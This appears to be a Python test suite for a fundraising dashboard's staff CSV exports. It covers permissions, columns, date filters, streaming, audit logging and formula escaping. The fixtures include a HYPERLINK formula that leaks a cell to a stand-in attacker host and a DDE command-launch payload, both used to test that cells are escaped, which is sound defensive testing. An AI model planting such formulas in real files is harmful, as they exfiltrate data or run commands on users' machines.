"""Staff CSV exports: who may download them, their columns and rows, formula
escaping, filters, streaming, and the audit entry an export of personal data
leaves.

Fixture data is committed before the first request (a savepoint inside the
test's outer transaction).
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime

import pytest
from sqlalchemy import func, select

from campaigns.audit import AuditEntry
from campaigns.dashboard import exports
from campaigns.dashboard import filters as export_filters
from campaigns.giving.ledger import record_gift
from campaigns.giving.models import Donation
from campaigns.model_types import utcnow
from campaigns.offline.models import OfflineGift
from messaging.sharing import services as sharing
from tests.factories import (
    AgentFactory,
    CauseFactory,
    EventPageFactory,
    PageFactory,
    ProjectFactory,
    refund_row,
)

BASE = "/staff/eau-vive/dashboard/exports"
NAMES = ("donations", "pages", "agents", "offline")
HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def rows_of(response) -> list[dict]:
    body = response.get_data(as_text=True)
    assert body.startswith("\ufeff")
    return list(csv.DictReader(io.StringIO(body[1:])))


def audit_count(db, action: str | None = None) -> int:
    query = select(func.count(AuditEntry.id))
    if action:
        query = query.where(AuditEntry.action == action)
    return db.session.scalar(query)


@pytest.fixture
def ledger(db, org, cause):
    """An event with a member page, a page elsewhere, a gift through a share
    link, a refund, a gift from another cause and one from another organisation."""
    lyon = EventPageFactory(cause=cause, slug="lyon-night", title="Lyon night", city="Lyon")
    ana = PageFactory(
        cause=cause, parent=lyon, slug="ana-runs", owner=AgentFactory(name="Ana", email="ana@x.org")
    )
    wells = ProjectFactory(cause=cause, slug="wells")
    link = sharing.link_for(ana.owner, ana, "facebook")
    gift = record_gift(
        page=ana,
        cause=cause,
        amount_minor=2550,
        donor_name="@Zoé",
        donor_email="zoe@example.org",
        message=HYPERLINK,
        project=wells,
        created_at=datetime(2026, 6, 21, 18, 0, tzinfo=UTC),
        extra={
            "share_link_id": link.id,
            "stripe_payment_intent_id": "pi_123",
            "donor_address_line": "8 rue des Lilas, Bât. B",
            "donor_postal_code": "69003",
            "donor_city": "Lyon",
            "donor_country": "FR",
        },
    )
    gift.receipt_number = "EV-2026-000001"
    refund = refund_row(gift, 1000, datetime(2026, 6, 25, 9, 0, tzinfo=UTC))
    record_gift(
        page=lyon,
        cause=cause,
        amount_minor=1000,
        donor_name="-Léon",
        created_at=datetime(2026, 6, 20, 23, 30, tzinfo=UTC),  # the 21st in Paris
    )
    other_cause = CauseFactory(organisation=org, slug="winter")
    record_gift(page=None, cause=other_cause, amount_minor=700, donor_email="w@example.org")
    elsewhere = CauseFactory(slug="not-ours")
    record_gift(page=None, cause=elsewhere, amount_minor=999, donor_email="spy@example.org")
    return {"gift": gift, "refund": refund, "ana": ana, "lyon": lyon}


# --- who may download -----------------------------------------------------------


def test_an_agent_who_is_not_staff_gets_403_and_no_audit_entry(
    db, client, as_agent, ledger, outsider
):
    as_agent(outsider)
    for name in NAMES:
        response = client.get(f"{BASE}/{name}.csv")
        assert response.status_code == 403, name
        assert "zoe@example.org" not in response.get_data(as_text=True)
    as_agent(AgentFactory())
    for name in NAMES:
        assert client.get(f"{BASE}/{name}.csv").status_code == 403, name
    assert audit_count(db) == 0


def test_anonymous_visitors_are_sent_to_log_in(db, client, ledger):
    db.session.commit()
    for name in NAMES:
        response = client.get(f"{BASE}/{name}.csv")
        assert response.status_code == 302, name
        assert "/account/login" in response.headers["Location"]
    assert audit_count(db) == 0


def test_an_unknown_export_is_a_404(db, client, as_agent, staffer, ledger):
    as_agent(staffer)
    assert client.get(f"{BASE}/passwords.csv").status_code == 404


# --- donations ------------------------------------------------------------------


def test_donations_are_streamed_with_donor_details_and_headers(
    db, client, as_agent, staffer, ledger
):
    as_agent(staffer)
    response = client.get(f"{BASE}/donations.csv")
    assert response.status_code == 200
    assert response.is_streamed
    assert response.mimetype == "text/csv"
    assert response.headers["Cache-Control"] == "no-store"
    today = datetime.now(UTC).astimezone(exports.wall_clock()).date().isoformat()
    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="eau-vive-donations-{today}.csv"'
    )
    rows = rows_of(response)
    assert list(rows[0]) == list(exports.DONATION_HEADER)
    assert len(rows) == 4  # the other organisation's gift is not there
    assert "spy@example.org" not in response.get_data(as_text=True)
    gift, refund = rows[0], rows[1]
    assert gift["id"] == str(ledger["gift"].id)
    assert gift["kind"] == "gift"
    assert (gift["amount"], gift["amount_minor"], gift["currency"]) == ("25.50", "2550", "EUR")
    assert gift["donor_email"] == "zoe@example.org"
    address = ("donor_address_line", "donor_postal_code", "donor_city", "donor_country")
    assert [gift[column] for column in address] == [
        "8 rue des Lilas, Bât. B",
        "69003",
        "Lyon",
        "FR",
    ]
    assert (gift["cause"], gift["project"], gift["page"], gift["event"]) == (
        "twestival",
        "wells",
        "ana-runs",
        "lyon-night",
    )
    assert gift["share_channel"] == "facebook"
    assert gift["stripe_payment_intent_id"] == "pi_123"
    assert gift["receipt_number"] == "EV-2026-000001"
    assert gift["created_at"].startswith("2026-06-21T18:00:00")
    # A refund is negative (not escaped) and names its gift's donor and channel.
    assert (refund["kind"], refund["amount"], refund["amount_minor"]) == (
        "refund",
        "-10.00",
        "-1000",
    )
    assert refund["refund_of"] == gift["id"]
    assert refund["donor_email"] == "zoe@example.org"
    assert [refund[column] for column in address] == [gift[column] for column in address]
    assert rows[2]["donor_address_line"] == ""  # a gift with no address
    assert refund["share_channel"] == "facebook"
    assert rows[3]["is_unattributed"] == "true"
    assert rows[3]["cause"] == "winter"


def test_cells_a_spreadsheet_would_run_are_escaped(db, client, as_agent, staffer, ledger):
    as_agent(staffer)
    rows = rows_of(client.get(f"{BASE}/donations.csv"))
    assert rows[0]["message"] == "'" + HYPERLINK
    assert rows[0]["donor_name"] == "'@Zoé"
    assert rows[2]["donor_name"] == "'-Léon"
    for value in ("=1+1", "+33 6", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert exports.safe_cell(value) == "'" + value
    for value in ("Zoé", "", "a=b", 12, -5):
        assert exports.safe_cell(value) == value


def test_a_donations_export_is_audited_before_the_file_is_sent(
    db, client, as_agent, staffer, ledger, org
):
    as_agent(staffer)
    response = client.get(f"{BASE}/donations.csv?cause=twestival&since=2026-06-21")
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "export.donations"))
    assert entry is not None  # written before a byte of the file was read
    assert entry.organisation_id == org.id
    assert entry.actor_id == staffer.id
    assert entry.details == {
        "file": "donations",
        "cause": "twestival",
        "since": "2026-06-21",
        "until": "",
    }
    assert len(rows_of(response)) == 3
    client.get(f"{BASE}/pages.csv")
    assert audit_count(db) == 1  # pages hold no personal data
    client.get(f"{BASE}/offline.csv")
    client.get(f"{BASE}/agents.csv")
    assert audit_count(db, "export.offline") == audit_count(db, "export.agents") == 1


def test_filters_keep_a_cause_and_local_days(db, client, as_agent, staffer, ledger):
    as_agent(staffer)

    def ids(query: str) -> list[str]:
        response = client.get(f"{BASE}/donations.csv?{query}")
        assert response.status_code == 200, query
        return [r["id"] for r in rows_of(response)]

    gift, refund = str(ledger["gift"].id), str(ledger["refund"].id)
    everything = ids("")
    assert len(everything) == 4
    assert len(ids("cause=winter")) == 1
    # 23:30 UTC on the 20th is the 21st in Paris; the refund is on the 25th.
    on_21st = ids("cause=twestival&since=2026-06-21&until=2026-06-21")
    assert gift in on_21st and refund not in on_21st and len(on_21st) == 2
    assert ids("cause=twestival&since=2026-06-22") == [refund]
    assert ids("cause=twestival&until=2026-06-20") == []
    response = client.get(f"{BASE}/donations.csv?cause=twestival")
    assert "eau-vive-twestival-donations-" in response.headers["Content-Disposition"]


@pytest.mark.parametrize(
    ("query", "says"),
    [
        ("since=21/06/2026", "YYYY-MM-DD"),
        ("until=2026-02-30", "YYYY-MM-DD"),
        ("since=yesterday", "YYYY-MM-DD"),
        ("until=9999-12-31", "YYYY-MM-DD"),
        ("since=2026-06-22&until=2026-06-21", "on or before"),
        ("cause=not-ours", "no cause"),
        ("cause=nope", "no cause"),
    ],
)
def test_bad_filters_are_a_400_that_says_what_to_do(
    db, client, as_agent, staffer, ledger, query, says
):
    as_agent(staffer)
    for name in NAMES:
        response = client.get(f"{BASE}/{name}.csv?{query}")
        assert response.status_code == 400, (name, query)
        assert says in response.get_data(as_text=True)
    assert audit_count(db) == 0


def test_the_file_is_written_in_chunks(db, client, as_agent, staffer, ledger, monkeypatch):
    monkeypatch.setattr(exports, "ROWS_PER_CHUNK", 1)
    as_agent(staffer)
    response = client.get(f"{BASE}/donations.csv")
    chunks = list(response.response)
    assert len(chunks) == 4  # the header with the first row, then one row each
    assert all(chunk.count(b"\r\n") == 1 for chunk in chunks[1:])
    assert b"".join(chunks).decode().count("\r\n") == 5


# --- pages, agents, offline gifts -----------------------------------------------


def test_pages_export_lists_every_page_with_its_figures(db, client, as_agent, staffer, ledger):
    PageFactory(cause=ledger["lyon"].cause, slug="quiet", city="=cmd|' /C calc'!A0")
    as_agent(staffer)
    response = client.get(f"{BASE}/pages.csv")
    assert response.is_streamed
    rows = {r["slug"]: r for r in rows_of(response)}
    assert set(rows) == {"lyon-night", "ana-runs", "quiet"}
    lyon, ana = rows["lyon-night"], rows["ana-runs"]
    # An event counts its member pages; the refund is net.
    assert (lyon["raised"], lyon["raised_minor"], lyon["donation_count"]) == ("25.50", "2550", "2")
    assert (ana["raised_minor"], ana["event"], ana["owner"], ana["kind"]) == (
        "1550",
        "lyon-night",
        "Ana",
        "personal",
    )
    assert rows["quiet"]["city"] == "'=cmd|' /C calc'!A0"
    assert "ana@x.org" not in response.get_data(as_text=True)


def test_agents_export_counts_pages_and_money(db, client, as_agent, staffer, ledger):
    as_agent(staffer)
    rows = rows_of(client.get(f"{BASE}/agents.csv"))
    assert list(rows[0]) == list(exports.AGENT_HEADER)
    ana = next(r for r in rows if r["email"] == "ana@x.org")
    assert (ana["name"], ana["pages"], ana["events"], ana["raised"]) == ("Ana", "1", "0", "15.50")
    host = next(r for r in rows if r["email"] == ledger["lyon"].owner.email)
    assert (host["pages"], host["events"], host["raised_minor"]) == ("1", "1", "1000")
    assert len(rows) == 2


def test_offline_export_lists_gifts_with_their_review(db, client, as_agent, staffer, ledger):
    ana = ledger["ana"]
    db.session.add(
        OfflineGift(
            page_id=ana.id,
            recorded_by_id=ana.owner_id,
            amount_minor=1234,
            currency="EUR",
            method="cheque",
            donor_name="Chloé",
            donor_email="chloe@example.org",
            note="+ cheque n°12",
            collected_on=datetime(2026, 6, 20, 22, 0, tzinfo=UTC),  # midnight in Paris
        )
    )
    as_agent(staffer)
    response = client.get(f"{BASE}/offline.csv")
    rows = rows_of(response)
    assert len(rows) == 1
    row = rows[0]
    assert (row["amount"], row["amount_minor"], row["method"], row["status"]) == (
        "12.34",
        "1234",
        "cheque",
        "pending",
    )
    assert row["collected_on"] == "2026-06-21"
    assert (row["page"], row["cause"], row["recorded_by"]) == ("ana-runs", "twestival", "Ana")
    assert row["note"] == "'+ cheque n°12"
    assert row["has_photo"] == "false"
    assert rows_of(client.get(f"{BASE}/offline.csv?since=2026-06-22")) == []


def test_filters_parse_local_days(app, db, org, cause):
    filters = export_filters.parse_filters(org.id, {"cause": "twestival", "since": "2026-06-21"})
    assert (filters.cause_id, filters.since, filters.until) == (cause.id, date(2026, 6, 21), None)
    assert export_filters.parse_filters(org.id, {}) == export_filters.Filters()
    condition = filters.window(Donation.created_at)[0]
    assert condition.right.value == datetime(2026, 6, 20, 22, 0, tzinfo=UTC)
    assert utcnow().tzinfo is not None
